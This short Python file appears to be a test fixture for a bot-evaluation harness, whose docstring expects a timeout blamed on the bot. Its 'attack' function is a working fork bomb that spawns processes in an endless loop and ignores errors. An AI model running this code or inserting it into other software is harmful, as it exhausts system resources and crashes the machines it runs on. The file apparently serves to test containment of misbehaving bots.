"""Forks without end, giving nothing for errors. Expected: timeout; blame: bot."""

import os


def attack(reply):
    while True:
        try:
            os.fork()
        except OSError:
            pass
